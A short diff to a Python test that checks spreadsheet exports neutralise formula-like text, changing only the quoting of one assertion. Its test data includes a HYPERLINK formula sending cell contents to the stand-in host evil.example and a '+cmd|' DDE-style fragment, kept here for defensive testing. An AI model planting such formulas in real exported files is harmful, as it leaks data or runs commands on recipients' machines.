@@ -84,7 +84,7 @@ def test_formula_like_text_is_exported_inert_and_round_trips(populated, im, tmp_
 
         cells = [c for row in openpyxl.load_workbook(files[0])["Jobs"].iter_rows() for c in row]
         assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
-        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")" in [c.value for c in cells]
+        assert '\'=HYPERLINK("http://evil.example/?x="&A2,"Click")' in [c.value for c in cells]
     if fmt == "csv":
         jobs = next(p for p in files if p.name == "jobs.csv").read_text(encoding="utf-8-sig")
         assert "'+cmd|" in jobs and ",=HYPERLINK" not in jobs
